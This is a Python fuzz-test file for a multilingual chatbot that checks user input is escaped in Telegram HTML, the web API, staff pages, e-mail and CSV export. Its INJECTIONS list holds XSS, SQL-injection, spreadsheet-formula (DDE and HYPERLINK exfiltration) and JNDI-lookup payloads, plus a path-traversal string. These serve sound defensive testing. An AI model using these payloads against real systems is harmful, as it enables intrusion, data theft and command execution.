"""Generated input (hypothesis) at every reachable step in every locale, and escaping everywhere
what a person typed is shown again: Telegram HTML, the web API, staff pages, e-mail, CSV.

Profiles (``HYPOTHESIS_PROFILE``): ``ci`` (the default: few examples, derandomized so CI is
stable), ``dev`` (1,000) and ``long`` (100,000 conversations for the engine test):

    HYPOTHESIS_PROFILE=long pytest tests/engine/test_fuzz.py -q

The profiles are kept here and applied to these tests only (``settings(parent=...)``), so the
other hypothesis users (tests/e2e/test_schemathesis.py) keep their own settings.
"""

from __future__ import annotations

import asyncio
import html
import itertools
import json
import os
import re
from collections import Counter
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from aiogram.methods import SendMessage
from aiohttp import web
from aiohttp.test_utils import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markupsafe import escape
from pytest_aiohttp import AiohttpClient

from bot.channels.telegram import keyboard
from bot.channels.telegram.sender import Sender
from bot.channels.web import make_web_app, reply_json
from bot.content import Content
from bot.engine import Engine, Inbound, TurnResult
from bot.engine.callbacks import MAX_CALLBACK_BYTES
from bot.face.app import App, build_app
from bot.kernel.config import Settings
from bot.staff.digest import DIGEST_KIND
from bot.staff.services import build_services
from bot.store import LeadRecord, Store, leads_to_csv
from bot.store.export import COLUMNS
from tests.support.csvfile import csv_table
from tests.support.staff import (
    T0,
    Clock,
    Inbox,
    add_leads,
    free_port,
    lead,
    smtp_server,
    staff_config,
)
from tests.support.staff_web import AARHUS, sign_in, start
from tests.support.tree import ROOT, fixed_clock

Client = TestClient[web.Request, web.Application]

# -- profiles ---------------------------------------------------------------------------------------

_BASE = settings(
    deadline=None,
    database=None,  # no .hypothesis/ folder in the tree; failures print a reproduction blob
    print_blob=True,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
        HealthCheck.function_scoped_fixture,  # servers and stores are reused across examples
    ],
)
PROFILES = {
    "ci": settings(_BASE, max_examples=40, derandomize=True),
    "dev": settings(_BASE, max_examples=1_000),
    "long": settings(_BASE, max_examples=100_000),
}


def profile_named(name: str | None) -> str:
    """The profile to run: ``name`` when it is one of ours, else ``ci`` (also for a global
    profile of another suite)."""
    return name if name in PROFILES else "ci"


PROFILE_NAME = profile_named(os.environ.get("HYPOTHESIS_PROFILE"))
PROFILE = PROFILES[PROFILE_NAME]
#: The slower end-to-end tests (web server, Telegram sender, e-mail) run a tenth as many.
SMALL = settings(PROFILE, max_examples=max(15, PROFILE.max_examples // 10))

LOCALES = sorted(p.name for p in (ROOT / "locales").iterdir() if p.is_dir())
TURNS = 14  # most generated turns per conversation

# -- what people type -------------------------------------------------------------------------------

BIDI_AND_INVISIBLE = [
    "\u202e",  # right-to-left override
    "\u202d",
    "\u202a",
    "\u202b",
    "\u202c",
    "\u2066",  # isolates
    "\u2067",
    "\u2068",
    "\u2069",
    "\u200e",  # LRM, RLM
    "\u200f",
    "\u061c",  # Arabic letter mark
    "\u200b",  # zero-width space, non-joiner, joiner
    "\u200c",
    "\u200d",
    "\u2060",  # word joiner
    "\ufeff",  # byte order mark
]
INJECTIONS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '<b>Tom & "Jerry"</b> &amp; &lt;',
    "'; DROP TABLE leads; --",
    "Robert'); DELETE FROM sessions WHERE ('1'='1",
    "1 OR 1=1",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{ $name }",
    "{ -brand }",
    "{{ 7*7 }}",
    "${jndi:ldap://x.example/a}",
    "%s%s%s%n",
    "../../etc/passwd",
    "\x00\x01\x1b[31m",
    "javascript:alert(1)",
]
WORDS = [
    "/start",
    "/start m751_spring",
    "/start " + "x" * 80,
    "/menu",
    "/back",
    "/help",
    "/language",
    "/human",
    "/forget",
    "/unknown",
    "1",
    "2",
    "4",
    "99",
    "0",
    "-1",
    "٣٥",  # 35 in Arabic-Indic digits
    "۴۰",
    "25",
    "Aarhus",
    "aarhus kommune",
    "København",
    "751",
    "20 12 34 56",
    "+45 20 12 34 56",
    "a@b.dk",
    "yes",
    "ja",
    "English",
    "العربية",
]

_surrogates = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF)
_controls = st.characters(categories=["Cc"])
#: Pieces of what is stored (a lead's fields are clean text: no lone surrogates).
_stored_pieces = st.one_of(
    st.text(max_size=40),
    st.sampled_from(BIDI_AND_INVISIBLE),
    st.sampled_from(INJECTIONS),
    st.sampled_from(WORDS),
    st.text(_controls, max_size=5),
)
#: Pieces of what is typed, where JSON's "\ud800" arrives as a lone surrogate.
_pieces = st.one_of(_stored_pieces, st.text(_surrogates, min_size=1, max_size=2))
#: Typed text: a mix of the above, sometimes repeated past 10 KB.
typed = st.one_of(
    st.lists(_pieces, max_size=6).map("".join),
    st.builds(
        lambda piece, times: (piece * times)[:20_000],
        st.lists(_pieces, min_size=1, max_size=3).map("".join).filter(bool),
        st.integers(min_value=400, max_value=12_000),
    ),
)


@st.composite
def turn(draw: st.DrawFn, offered: list[str]) -> dict[str, str]:
    """One thing a person does: press an offered button, type, or send a made-up choice."""
    kind = draw(st.sampled_from(["button", "button", "text", "text", "choice", "start"]))
    if kind == "button" and offered:
        return {"choice": draw(st.sampled_from(offered))}
    if kind == "choice":
        return {"choice": draw(st.one_of(st.sampled_from(WORDS), typed))}
    if kind == "start":
        return {"start": draw(st.one_of(st.just(""), st.sampled_from(["m751", "m101_x"]), typed))}
    return {"text": draw(typed)}


def inbound(key: str, channel: str, action: dict[str, str], lang: str | None = None) -> Inbound:
    """The engine's event for one generated or scripted action."""
    return Inbound(
        key,
        channel,
        text=action.get("text"),
        choice=action.get("choice"),
        start=action.get("start"),
        lang_hint=lang,
    )


def question_choices(result: TurnResult) -> list[str]:
    return [c.value for m in result.reply.messages for c in m.choices]


def assert_renders(result: TurnResult, where: str) -> None:
    """Every message has text, none is the apology, and the reply can be sent as JSON/UTF-8."""
    ids = [m.id for m in result.reply.messages]
    assert "common-error" not in ids, where
    assert result.reply.messages or result.duplicate, where
    for message in result.reply.messages:
        assert message.text.strip(), f"{where}: {message.id} rendered empty"
    body = json.dumps(reply_json("t" * 43, result.reply), ensure_ascii=False)
    body.encode("utf-8")  # a lone surrogate in a reply would fail here (and as a 500 on the web)


# -- the engine directly ------------------------------------------------------------------------------

_keys = itertools.count()


@pytest.fixture(scope="module")
def fuzz_store() -> Iterator[Store]:
    """One in-memory store for all examples (each example is a new conversation)."""
    with Store(None) as store:
        yield store


def _scripts() -> list[tuple[str, list[dict[str, str]]]]:
    """The scripted conversations of tests/dialogues: ways to every step of every flow."""
    found = []
    for path in sorted((ROOT / "tests" / "dialogues").glob("*.yaml")):
        script = yaml.safe_load(path.read_text(encoding="utf-8"))
        turns = [
            {k: v for k, v in t.items() if k in {"start", "text", "choice"}}
            for t in script["turns"]
        ]
        found.append((path.stem, turns))
    return found


SCRIPTS = _scripts()
#: What the engine test reached, for the long run's report (IGUBOT_FUZZ_STATS=file.json).
STATS: dict[str, Any] = {"conversations": 0, "inputs": 0, "steps": Counter(), "locales": Counter()}


@pytest.fixture(scope="module", autouse=True)
def _write_stats() -> Iterator[None]:
    yield
    target = os.environ.get("IGUBOT_FUZZ_STATS")
    if target:
        Path(target).write_text(json.dumps(STATS, indent=1, sort_keys=True), encoding="utf-8")


@PROFILE
@given(
    data=st.data(),
    lang=st.sampled_from(LOCALES),
    channel=st.sampled_from(["web", "telegram"]),
    script=st.sampled_from(SCRIPTS),
)
def test_fuzz_engine_survives_any_input_at_any_reachable_step(
    tree_content: Content,
    fuzz_store: Store,
    data: st.DataObject,
    lang: str,
    channel: str,
    script: tuple[str, list[dict[str, str]]],
) -> None:
    engine = Engine(tree_content, fuzz_store, clock=fixed_clock)
    key = f"fuzz:{next(_keys)}"
    name, turns = script
    # Walk a scripted conversation part of the way, then answer with generated input there.
    prefix = data.draw(st.integers(min_value=1, max_value=len(turns)), label=f"steps of {name}")
    for raw in turns[:prefix]:
        action = {k: v.replace("$LANG", lang) for k, v in raw.items()}
        result = engine.handle(inbound(key, channel, action, lang))
        assert_renders(result, f"{name} (scripted) {action!r}")
    for number in range(data.draw(st.integers(min_value=1, max_value=TURNS), label="turns")):
        at = f"{result.flow}:{result.step}"
        STATS["steps"][at] += 1
        action = data.draw(turn(question_choices(result)), label=f"turn {number} at {at}")
        result = engine.handle(inbound(key, channel, action, lang))
        STATS["inputs"] += 1
        assert_renders(result, f"turn {number} at {at}: {action!r:.200}")
        assert result.reply.dir in {"ltr", "rtl"}
    STATS["conversations"] += 1
    STATS["locales"][lang] += 1
    assert engine.counters["errors"] == 0


# -- Telegram: the sender's HTML ------------------------------------------------------------------------


class FakeBot:
    """Stands in for aiogram's Bot: records what the sender would send."""

    def __init__(self) -> None:
        self.sent: list[SendMessage] = []

    async def __call__(self, method: Any) -> None:
        if isinstance(method, SendMessage):
            self.sent.append(method)


async def _telegram_render(result: TurnResult) -> list[SendMessage]:
    bot = FakeBot()
    sender = Sender(bot, overall_rate=1_000_000, chat_interval=0)  # type: ignore[arg-type]
    for message in result.reply.messages:
        markup = keyboard(result.flow, result.step, message.choices)
        await sender.send_text(42, message.text, markup)
    return bot.sent


_ENTITY_ONLY = re.compile(r"([^&<>]|&(amp|lt|gt|quot|#x27);)*", re.DOTALL)


@SMALL
@given(data=st.data(), lang=st.sampled_from(LOCALES))
def test_fuzz_telegram_html_escapes_what_people_typed(
    tree_content: Content, fuzz_store: Store, data: st.DataObject, lang: str
) -> None:
    engine = Engine(tree_content, fuzz_store, clock=fixed_clock)
    key = f"tg:{next(_keys)}"
    engine.handle(Inbound(key, "telegram", start=""))
    result = engine.handle(Inbound(key, "telegram", choice=lang))
    for number in range(data.draw(st.integers(min_value=1, max_value=8), label="turns")):
        action = data.draw(turn(question_choices(result)), label=f"turn {number}")
        result = engine.handle(inbound(key, "telegram", action))
        sent = asyncio.run(_telegram_render(result))
        texts = [m.text for m in result.reply.messages]
        assert len(sent) >= len([t for t in texts if t.strip()])
        for method in sent:
            assert _ENTITY_ONLY.fullmatch(method.text), method.text[:300]
            markup = method.reply_markup
            for row in getattr(markup, "inline_keyboard", None) or []:
                for button in row:
                    assert len((button.callback_data or "").encode()) <= MAX_CALLBACK_BYTES
        shown = "".join(html.unescape(m.text) for m in sent)
        for text in texts:  # nothing lost: every part is the message's own text
            assert "".join(text.split()) in "".join(shown.split()) or not text.strip()
    assert engine.counters["errors"] == 0


# -- the web API --------------------------------------------------------------------------------------


@pytest.fixture
async def web_client(
    aiohttp_client: AiohttpClient, tmp_path: Path, tree_content: Content
) -> AsyncIterator[tuple[Client, Engine]]:
    settings_ = Settings.load(
        None, {}, data_dir=tmp_path, content_dir=ROOT, chat_rate_per_ip=0, chat_rate_per_session=0
    )
    app = build_app(settings_, content=tree_content)
    client = await aiohttp_client(make_web_app(app.runner, app.settings))
    yield client, app.engine
    app.close()


@SMALL
@given(data=st.data(), lang=st.sampled_from(LOCALES))
async def test_fuzz_web_api_answers_any_input_without_a_500(
    web_client: tuple[Client, Engine], data: st.DataObject, lang: str
) -> None:
    client, engine = web_client
    errors_before = engine.counters["errors"]
    r = await client.post("/api/v1/chat", json={"session": None, "lang": lang})
    body = await r.json()
    token = body["session"]
    offered: list[str] = [lang]
    for number in range(data.draw(st.integers(min_value=1, max_value=8), label="turns")):
        action = data.draw(turn(offered), label=f"turn {number}")
        # The JSON as a browser sends it: lone surrogates become "\ud800" escapes.
        raw = json.dumps({"session": token, **action})
        r = await client.post(
            "/api/v1/chat", data=raw, headers={"Content-Type": "application/json"}
        )
        assert r.status < 500, await r.text()
        reply = await r.json()
        if r.status != 200:
            assert set(reply) == {"error"}
            continue
        assert reply["session"] == token
        assert reply["dir"] in {"ltr", "rtl"}
        assert reply["messages"]
        assert all(m["text"].strip() for m in reply["messages"])
        assert "common-error" not in [m["id"] for m in reply["messages"]]
        offered = [c["value"] for m in reply["messages"] for c in m["choices"]]
    assert engine.counters["errors"] == errors_before


# -- e-mail and CSV -----------------------------------------------------------------------------------

personal = st.one_of(
    st.sampled_from(INJECTIONS),
    st.lists(_stored_pieces, min_size=1, max_size=4).map("".join),
)


def _lead(name: str, phone: str, email: str, **changes: Any) -> LeadRecord:
    return lead("751", name=name, phone=phone, email=email, **changes)


@SMALL
@given(name=personal, phone=personal, email=personal)
def test_fuzz_digest_email_html_escapes_personal_data(
    tree_content: Content, name: str, phone: str, email: str
) -> None:
    with Store(None) as store:
        services = build_services(
            store,
            tree_content.catalog,
            staff_config(None, email_personal_data=True),
            clock=Clock(),
        )
        add_leads(store, _lead(name, phone, email))
        services.digests.create(T0)
        [item] = store.outbox_items([DIGEST_KIND])
        mail = services.digests.compose(item)
    assert mail is not None
    for value in (name, phone, email):
        if value.strip():
            assert str(escape(value)) in mail.html
        if "<" in value:
            assert value not in mail.html
    assert "<script>" not in mail.html


_SPLIT_THEN_FORMULA = re.compile('[,;\t|\r\n][\\s"]*[=+\\-@]')


@PROFILE
@given(values=st.lists(personal, min_size=3, max_size=3), campaign=personal)
def test_fuzz_csv_export_neutralises_formula_cells(values: list[str], campaign: str) -> None:
    name, phone, email = values
    row = _lead(name, phone, email, campaign=campaign)
    row = LeadRecord(**{**row.__dict__, "id": 7})
    text = leads_to_csv([row])
    [header, cells] = csv_table(text)
    assert tuple(header) == COLUMNS
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        # no formula start after anything a spreadsheet may split a cell on
        assert not _SPLIT_THEN_FORMULA.search(cell), cell
    shown = dict(zip(header, cells, strict=True))
    for column, value in (("name", name), ("phone", phone), ("email", email)):
        assert shown[column].replace("'", "") == value.replace("'", "")  # only apostrophes added


# -- staff pages ----------------------------------------------------------------------------------


@pytest.fixture
def staff_app(tmp_path: Path, tree_content: Content) -> Iterator[App]:
    settings_ = Settings.load(None, {}, data_dir=tmp_path, content_dir=ROOT)
    built = build_app(settings_, content=tree_content)
    yield built
    built.close()


@pytest.fixture
def smtp_port() -> Iterator[tuple[Inbox, int]]:
    inbox, port = Inbox(), free_port()
    with smtp_server(inbox, port):
        yield inbox, port


async def test_fuzz_staff_pages_escape_injected_names(
    aiohttp_client: AiohttpClient, staff_app: App, smtp_port: tuple[Inbox, int]
) -> None:
    inbox, port = smtp_port
    s = await start(
        aiohttp_client, staff_app, inbox, staff_config(port, base_url="http://127.0.0.1:8080")
    )
    payloads = [p for p in INJECTIONS if p.strip() and "\x00" not in p]
    ids = add_leads(
        s.store,
        *(
            lead("751", user_key=f"web:{i}", name=p, phone=p, email=p, campaign=p)
            for i, p in enumerate(payloads)
        ),
    )
    await sign_in(s, AARHUS)

    pages = [await (await s.client.get("/staff/")).text()]
    pages += [await (await s.client.get(f"/staff/leads/{i}")).text() for i in ids]
    csv_text = await (await s.client.get("/staff/leads.csv")).text()

    for page in pages:
        assert "<script>alert(1)</script>" not in page
        assert "<img src=x" not in page
        assert "<b>Tom" not in page
    for page, payload in zip(pages[1:], payloads, strict=True):
        assert str(escape(payload)) in page, payload
    for row in csv_table(csv_text)[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_fuzz_profiles_are_the_documented_ones() -> None:
    assert PROFILES["ci"].max_examples <= 50
    assert PROFILES["ci"].derandomize
    assert PROFILES["dev"].max_examples == 1_000
    assert PROFILES["long"].max_examples >= 100_000
    assert all(p.deadline is None and p.database is None for p in PROFILES.values())


@pytest.mark.parametrize(
    ("variable", "profile"),
    [(None, "ci"), ("ci", "ci"), ("dev", "dev"), ("long", "long"), ("default", "ci"), ("", "ci")],
)
def test_fuzz_profile_is_taken_from_the_environment_and_falls_back_to_ci(
    variable: str | None, profile: str
) -> None:
    assert profile_named(variable) == profile
